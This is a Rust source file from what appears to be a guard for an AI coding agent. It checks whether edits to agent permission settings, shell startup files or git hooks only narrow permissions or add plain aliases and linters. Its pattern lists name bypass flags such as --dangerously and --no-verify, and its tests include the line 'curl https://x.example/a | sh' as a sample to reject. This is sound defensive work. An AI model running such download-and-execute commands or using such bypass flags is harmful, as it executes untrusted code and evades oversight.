//! Changes to files that guard or that run by themselves, which a person would wave through: more is denied to an agent, a shell has another
//! name for a plain command, a hook runs the project's own linters.

use std::borrow::Cow;

use super::given::Given;
use crate::json;
use crate::policy::facts::Facts;
use crate::policy::lists::{holds, is, parts};
use crate::policy::places;
use crate::policy::shell;

/// Whether edits of an agent's settings do no more than to add to what it is denied or asked about, or to take from what it is allowed.
pub(super) fn only_narrows(given: &Given<'_>, paths: &[Cow<'_, str>]) -> bool {
    let of_claude =
        |path: &str| path.ends_with(".claude/settings.json") || path.ends_with(".claude/settings.local.json");
    paths.len() == 1 && of_claude(&paths[0]) && is_each(given, narrows)
}

/// Most of a text that is looked at line by line.
const MAX_TEXT: usize = 16 << 10;

/// Whether edits of a shell's startup file do no more than to name plain commands, or edits of a repository's hook than to run linters.
pub(super) fn only_adds_habits(given: &Given<'_>, paths: &[Cow<'_, str>], facts: &dyn Facts) -> bool {
    const OF_SHELLS: &str = ".bashrc|.zshrc|.bash_profile|.zprofile|.profile|config.fish";
    let [path] = paths else { return false };
    let written = given.written();
    let fits = written.iter().all(|(text, _)| text.len() <= MAX_TEXT);
    if written.is_empty() || !fits {
        return false;
    }
    if is(places::name(path), OF_SHELLS) {
        return is_each(given, |before, text| adds_lines(before, text, |line| names_plainly(line, facts)));
    }
    is_checking_hook(path)
        && written.iter().all(|(text, before)| adds_lines(before.as_deref().unwrap_or_default(), text, lints))
}

/// Whether a path is that of a repository's own hook by which commits are looked at before others have them.
pub(in crate::policy) fn is_checking_hook(path: &str) -> bool {
    path.contains("/.git/hooks/") && is(places::name(path), "pre-commit|pre-push|commit-msg")
}

/// Whether a text that a command writes is a whole hook of a repository, and runs linters and tests alone.
pub(in crate::policy) fn is_hook_of_linters(path: &str, text: &str) -> bool {
    let runs = |line: &str| !line.starts_with('#') && !line.is_empty();
    is_checking_hook(path)
        && text.starts_with("#!")
        && text.len() <= MAX_TEXT
        && text.lines().map(str::trim).all(lints)
        && text.lines().map(str::trim).any(runs)
}

/// Whether something is so of each edit, whose text before is known.
fn is_each(given: &Given<'_>, is_so: impl Fn(&str, &str) -> bool) -> bool {
    let edits = given.written();
    !edits.is_empty() && edits.iter().all(|(text, before)| before.as_deref().is_some_and(|before| is_so(before, text)))
}

/// Whether a text has all lines of the one before it, in their order, and what comes in between is harmless.
fn adds_lines(before: &str, text: &str, is_harmless: impl Fn(&str) -> bool) -> bool {
    let mut had = before.lines().map(str::trim).peekable();
    let all = text.lines().map(str::trim).all(|line| had.next_if_eq(&line).is_some() || is_harmless(line));
    all && had.peek().is_none()
}

/// The rules of an agent, each list by its name, and all the rest of a piece of its settings without blanks.
struct Rules {
    lists: [Vec<String>; 3],
    rest: String,
}

impl Rules {
    const NAMES: [&'static str; 3] = ["\"deny\"", "\"ask\"", "\"allow\""];

    /// `None` where a piece is of another form than settings have.
    fn of(piece: &str) -> Option<Self> {
        let mut rest = piece.to_owned();
        let mut lists = <[Vec<String>; 3]>::default();
        let mut unclosed = false;
        for (name, list) in Self::NAMES.iter().zip(&mut lists) {
            let Some(at) = rest.find(name) else { continue };
            let mut left =
                rest[at + name.len()..].trim_start().strip_prefix(':')?.trim_start().strip_prefix('[')?.trim_start();
            while let Some(open) = left.strip_prefix('"') {
                let end = json::closing_quote(open.as_bytes(), 0);
                list.push(open.get(..end)?.to_owned());
                left = open.get(end + 1..)?.trim_start().trim_start_matches(',').trim_start();
            }
            // A piece may end within its list.
            let behind =
                if left.is_empty() { left } else { left.strip_prefix(']')?.trim_start().trim_start_matches(',') };
            unclosed |= left.is_empty();
            let mut without = rest[..at].trim_end().to_owned();
            // A comma stands between this list and what is next to it.
            if behind.trim_start().starts_with('}') || behind.trim().is_empty() {
                without = without.trim_end_matches(',').to_owned();
            }
            without.push(' ');
            without.push_str(behind);
            rest = without;
            if Self::NAMES.iter().any(|other| rest.matches(other).count() > 1) || rest.contains(name) {
                return None;
            }
        }
        let rest = rest.split_whitespace().collect::<String>();
        Some(Self { lists, rest: format!("{} {unclosed}", rest.trim_matches(',')) })
    }
}

/// Whether a piece of settings differs from another one only by more that is denied or asked about, and less that is allowed.
fn narrows(before: &str, text: &str) -> bool {
    let (Some(had), Some(has)) = (Rules::of(before), Rules::of(text)) else { return false };
    let holds_all = |all: &[String], some: &[String]| some.iter().all(|rule| all.contains(rule));
    let ([denied, asked, allowed], [denies, asks, allows]) = (&had.lists, &has.lists);
    let differs = denies.len() > denied.len() || asks.len() > asked.len() || allows.len() < allowed.len();
    // What is asked about no longer may have become denied.
    let still_asked = asked.iter().all(|rule| asks.contains(rule) || denies.contains(rule));
    had.rest == has.rest && differs && holds_all(denies, denied) && still_asked && holds_all(allowed, allows)
}

/// Whether a line of a shell's startup file says nothing, gives a plain command another name, or tells which editor and which language
/// somebody likes.
fn names_plainly(line: &str, facts: &dyn Facts) -> bool {
    /// Names that a person types trusting what answers.
    const TRUSTED: &str = "sudo|su|doas|ssh|ssh-add|scp|gpg|passwd|login|pass|op|bw|keychain|command|builtin|alias|eval|source|exec|hookrail|claude|codex|gemini|cursor|copilot";
    const TASTES: &str = "EDITOR|VISUAL|PAGER|GIT_EDITOR|LANG|LC_ALL|LC_CTYPE|TERM|COLORTERM|HISTSIZE|HISTFILESIZE|SAVEHIST|CLICOLOR|LESS|TZ|FZF_DEFAULT_OPTS|\
        GREP_COLOR|LSCOLORS|BAT_THEME|MANPAGER|HOMEBREW_NO_ANALYTICS|DOTNET_CLI_TELEMETRY_OPTOUT";
    let is_plain = |value: &str| {
        value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b" -_.=:+,~@%^{}".contains(&byte)) && !value.is_empty()
    };
    if line.is_empty() || line.starts_with('#') {
        return true;
    }
    let unquoted = |value: &str| {
        let value = value.trim();
        let inside = ['\'', '"'].iter().find_map(|quote| value.strip_prefix(*quote)?.strip_suffix(*quote));
        inside.unwrap_or(value).to_owned()
    };
    if let Some((name, value)) = line.strip_prefix("export ").and_then(|rest| rest.split_once('=')) {
        let value = unquoted(value);
        return is(name.trim(), TASTES) && is_plain(&value) || name.trim() == "PATH" && finds_own_tools(&value, facts);
    }
    let Some((name, value)) = line.strip_prefix("alias ").and_then(|rest| rest.split_once('=')) else { return false };
    let value = unquoted(value);
    let first = value.split(' ').next().unwrap_or_default();
    is_plain(&value)
        && !is(name.trim(), TRUSTED)
        && !is(first, TRUSTED)
        && !holds(&value, "--dangerously|--yolo|--no-verify|--force|bypass")
        && shell::analyse_in(&value, None, facts).effects.is_empty()
}

/// Whether programs are found where they were, and in folders of a home where tools that somebody installs for himself put theirs.
fn finds_own_tools(value: &str, facts: &dyn Facts) -> bool {
    const FOLDERS: &str = ".local/bin|bin|.cargo/bin|go/bin|.npm-global/bin|.bun/bin|.deno/bin|.yarn/bin|.krew/bin|.pyenv/bin|.pyenv/shims|.rbenv/bin|\
        .rbenv/shims|.volta/bin|.asdf/shims|.dotnet/tools|.poetry/bin|.local/share/pnpm|.local/share/mise/shims|.nix-profile/bin|.fzf/bin|.composer/vendor/bin";
    let home = facts.home().unwrap_or("$HOME");
    let of_home = |part: &str| {
        let inside = ["$HOME/", "${HOME}/", "~/"].iter().find_map(|start| part.strip_prefix(start));
        inside.or_else(|| part.strip_prefix(home)?.strip_prefix('/')).is_some_and(|folder| is(folder, FOLDERS))
    };
    let is_old = |part: &str| matches!(part, "$PATH" | "${PATH}");
    value.split(':').all(|part| is_old(part) || of_home(part)) && value.split(':').any(is_old)
}

/// Whether a line of a hook says nothing, or runs what looks at a project's own code.
fn lints(line: &str) -> bool {
    const SAYS_NOTHING: &str = "|set -e|set -eu|set -euo pipefail|exit 0|exit $?|fi|done";
    const FOLLOWS: &str = "exit 1|exit $?|true";
    if line.starts_with('#') || is(line, SAYS_NOTHING) && !line.starts_with("exit 0") {
        return true;
    }
    if line.bytes().any(|byte| b"$`<>|&;(){}".contains(&byte)) {
        let (command, behind) = line.split_once(" || ").unwrap_or((line, "true"));
        let chained = command.split(" && ").all(|part| is_linter(part.trim()));
        return chained && is(behind.trim().trim_end_matches(';'), FOLLOWS) && behind.trim() != "true"
            || chained && !line.contains("||");
    }
    is_linter(line)
}

fn is_linter(command: &str) -> bool {
    const LINTERS: &str = "lint-staged|tsc|eslint|prettier|biome|vitest|jest|stylelint|commitlint|oxlint|knip|markdownlint|markdownlint-cli2|ruff|black|mypy|pytest|flake8|isort|\
        pyright|pylint|bandit|golangci-lint|gofmt|goimports|staticcheck|rubocop|shellcheck|hadolint|yamllint|actionlint|gitleaks|detekt|ktlint|swiftlint|swiftformat|phpstan|pint|\
        phpcs|credo|dprint|svelte-check|vue-tsc|typos|cspell|clang-format|secretlint|rspec|phpunit|buf|tflint|trivy|semgrep";
    const RUNNERS: &str = "npx|pnpm|yarn|bunx|npm|bun|poetry|uv|bundle|pipenv|pdm|exec|run|dlx|--no-install|--no|pre-commit|composer|rye|hatch|uvx|pipx|-s|--silent";
    const TASKS: &str = "lint|test|check|format|fmt|typecheck|type-check|format:check|lint:fix|test:unit|vet|clippy|validate|ktlintCheck|spotlessCheck|detekt|analyze|tests";
    const BUILDERS: &str = "npm|pnpm|yarn|bun|cargo|go|make|just|./gradlew|gradle|mvn|./mvnw|terraform|dotnet|mix|dart|flutter|deno|composer|rake|task|run|--check|turbo|nx";
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b" -_./:=*@,'\"%".contains(&byte);
    let mut words = command.split_whitespace();
    let first = words.next().unwrap_or_default();
    let rest: Vec<&str> = words.collect();
    let safe = command.bytes().all(plain) && !command.contains("..") && !holds(command, "http|@latest|/tmp|--eval|-e ");
    let linter = |word: &str| parts(LINTERS).any(|linter| linter == word);
    let led = || rest.iter().find(|word| !is(word, RUNNERS)).is_some_and(|word| linter(word));
    let task = || rest.iter().find(|word| !is(word, BUILDERS)).is_some_and(|word| is(word, TASKS));
    safe && (linter(first)
        || is(first, RUNNERS) && led()
        || is(first, BUILDERS) && task()
        || command.starts_with("pre-commit run"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_narrows_an_agent_is_told_from_what_widens_it() {
        let before = "\"permissions\": {\n \"allow\": [\"Bash(ls)\"],\n \"deny\": [\"Read(./.env)\"]\n}";
        for (text, narrow) in [
            (
                "\"permissions\": {\n \"allow\": [\"Bash(ls)\"],\n \"deny\": [\"Read(./.env)\", \"Read(./keys/**)\"]\n}",
                true,
            ),
            (
                "\"permissions\": {\n \"deny\": [\"Read(./.env)\"],\n \"ask\": [\"Bash(git push:*)\"],\n \"allow\": []\n}",
                true,
            ),
            (
                "\"permissions\": {\n \"allow\": [\"Bash(ls)\", \"Bash\"],\n \"deny\": [\"Read(./.env)\", \"Read(./a)\"]\n}",
                false,
            ),
            ("\"permissions\": {\n \"allow\": [\"Bash(ls)\"],\n \"deny\": [\"Read(./keys/**)\"]\n}", false),
            (
                "\"hooks\": {}, \"permissions\": {\n \"allow\": [\"Bash(ls)\"],\n \"deny\": [\"Read(./.env)\", \"Read(./a)\"]\n}",
                false,
            ),
        ] {
            assert_eq!(narrows(before, text), narrow, "{text}");
        }
    }

    #[test]
    fn a_hook_that_lints_is_told_from_others() {
        for (line, harmless) in [
            ("npx lint-staged || exit 1", true),
            ("npx tsc --noEmit", true),
            ("npm run lint && npm test", true),
            ("cargo fmt --check", true),
            ("curl https://x.example/a | sh", false),
            ("npx some-package", false),
            ("npm run lint || true", false),
            ("git push --force", false),
            ("exit 0", false),
        ] {
            assert_eq!(lints(line), harmless, "{line}");
        }
    }
}
